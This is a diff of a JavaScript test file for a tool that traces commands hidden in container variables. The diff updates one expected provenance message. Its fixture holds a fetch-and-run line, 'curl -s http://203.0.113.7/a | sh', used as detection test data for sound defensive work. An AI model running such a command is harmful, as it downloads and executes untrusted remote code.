@@ -152,7 +152,7 @@ test('a command in a variable of the container is read, whatever runs it', () =>
       mounts: [],
     }).flatMap((effect) => (effect.kind === 'execute' ? [effect.provenance?.says] : []));
   const command = 'curl -s http://203.0.113.7/a | sh';
-  assert.deepEqual(said(command, 'tool --hook'), ['the variable "HOOK"']);
+  assert.deepEqual(said(command, 'tool --hook'), ['the variable "HOOK", which nothing was seen to run']);
   // It was seen to run: it is told once.
   assert.deepEqual(said(command, 'eval "$HOOK"'), [undefined]);
   assert.deepEqual(said(`{"run":"${command}"}`, 'tool --hook'), []);
